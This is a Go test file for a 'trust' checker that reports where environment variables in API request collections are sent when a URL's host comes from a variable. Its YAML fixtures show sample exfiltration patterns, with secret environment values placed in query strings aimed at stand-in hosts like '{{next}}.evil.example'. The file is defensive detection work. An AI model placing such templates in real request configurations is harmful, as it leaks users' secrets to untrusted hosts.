package trust

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestBeginsWithVariable holds where a URL leads whose first word is only begun by a variable: to the domain behind that, or, as
// the text says nothing of a host, to base_url, whatever the value is.
func TestBeginsWithVariable(t *testing.T) {
	want := []string{
		"environment variable ENV to a host with a secret in its name, https://{{$env.ENV}}.third.example",
		"environment variable K1 to a host from a response, https://{{next}}.evil.example",
		"environment variable K1 to a host you give, https://{{next}}.evil.example",
		"environment variable K2 to a host you give, https://{{you}}.other.example",
		"environment variable K3 to https://dev.example",
		"environment variable K4 to a host from a response, {{next}}:8080",
		"environment variable K4 to a host you give, {{next}}:8080",
	}
	got := Lines(Of(collection(t, map[string]string{
		"dowse.yaml": "version: 1\ndefault_env: dev\n", "env/dev.yaml": "base_url: https://dev.example/api\n",
		"a.yaml": "url: \"{{next}}.evil.example/x?k={{$env.K1}}\"\n",
		"b.yaml": "url: \"{{you}}.other.example/x?k={{$env.K2}}\"\n",
		"c.yaml": "url: \"{{next}}.json?k={{$env.K3}}\"\n",
		"d.yaml": "url: \"{{next}}:8080/x?k={{$env.K4}}\"\n",
		"e.yaml": "url: \"https://login.example/x\"\npicks: {next: \"$.next\"}\n",
		"f.yaml": "url: \"{{$env.ENV}}.third.example/x\"\n",
	})))
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}
